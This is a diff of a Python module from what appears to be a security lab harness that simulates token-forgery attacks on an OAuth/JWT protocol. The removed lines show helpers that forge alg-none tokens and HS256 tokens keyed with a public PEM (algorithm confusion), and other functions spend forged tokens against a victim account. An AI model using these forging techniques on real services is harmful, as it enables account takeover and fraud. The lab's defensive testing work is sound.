@@ -8,28 +8,24 @@ reads a leg or a key by itself: callers pass what their premise allows.
 
 from __future__ import annotations
 
-import hashlib
-import hmac
-import json
 import secrets
 from collections.abc import Callable
 from dataclasses import dataclass
 from typing import Any, NoReturn
 from urllib.parse import quote
 
-import jwt
 import requests
 
 from lab import clock, pki
 from lab.domain import ledger
-from lab.jose import b64
 from lab.jose.jwk import public_pem as public_pem  # what a confused verifier keys HMAC with
 from lab.protocol.tokens import unverified_claims  # a JWT's payload, read unchecked
 from lab.tpp import dpop_signer as tpp_dpop
 
 from . import insider, net
+from .attack_context import ATTACKER_SITE_PORT, AttackContext
 from .capture_view import Leaked
-from .context import ATTACKER_SITE_PORT, AttackContext
+from .forged_jws import unverified_header
 from .outcome import AttackSetupError
 from .premises import token_of
 from .token_support import with_proof
@@ -180,28 +176,6 @@ def victim_facts(ctx: AttackContext, *, with_grant: bool = False) -> VictimFacts
     return VictimFacts(sub, account_id, str(client_id), grant_id)
 
 
-def _segment(value: dict[str, Any]) -> str:
-    return b64.encode(json.dumps(value, separators=(",", ":")).encode())
-
-
-def sign_none(header: dict[str, Any], claims: dict[str, Any]) -> str:
-    """An unsigned JWS (RFC 7515 Appendix A.5 style): alg none, empty signature."""
-    return f"{_segment({**header, 'alg': 'none'})}.{_segment(claims)}."
-
-
-def sign_hs256(header: dict[str, Any], claims: dict[str, Any], secret: bytes) -> str:
-    """HS256 by hand (PyJWT refuses a PEM as an HMAC secret, which is the point)."""
-    signing_input = f"{_segment({**header, 'alg': 'HS256'})}.{_segment(claims)}"
-    mac = hmac.new(secret, signing_input.encode(), hashlib.sha256).digest()
-    return f"{signing_input}.{b64.encode(mac)}"
-
-
-def sign_with(private_jwk: dict[str, Any], header: dict[str, Any], claims: dict[str, Any],
-              alg: str = "ES256") -> str:
-    key = jwt.PyJWK(private_jwk, algorithm=alg).key
-    return jwt.encode(claims, key, algorithm=alg, headers=header)
-
-
 def attacker_site(ctx: AttackContext, path: str) -> str:
     return f"https://{ctx.config.host}:{ATTACKER_SITE_PORT}{path}"
 
@@ -329,13 +303,3 @@ def spend_forged(ctx: AttackContext, facts: VictimFacts,
         return binding.send(ctx, method, url, token, what=what, **kwargs)
 
     spend_token(ctx, token, facts.account_id, send)
-
-
-def unverified_header(token: str) -> dict[str, Any]:
-    try:
-        head = token.split(".")[0]
-        data = json.loads(b64.decode(head))
-    except (IndexError, ValueError):
-        return {}
-    return data if isinstance(data, dict) else {}
-
